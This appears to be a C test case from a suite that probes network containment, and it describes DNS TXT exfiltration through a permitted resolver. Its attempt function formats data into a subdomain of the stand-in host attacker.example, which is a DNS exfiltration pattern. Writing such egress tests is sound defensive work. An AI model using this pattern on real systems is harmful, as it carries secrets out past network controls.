// SPDX-License-Identifier: Apache-2.0
/* A resolver that recurses carries the name to whoever serves its zone. */
#include "../case.h"

static void attempt(const struct target *t, struct attempt *a)
{
	resolver_tell(t, a, "%s.attacker.example", DNS_TXT);
}

CASE(dns_txt) = { .title = "TXT through the permitted resolver",
		  .source = "field A7",
		  .group = "resolver",
		  .families = FOUR,
		  .settings = EVERYWHERE,
		  .attempt = attempt };
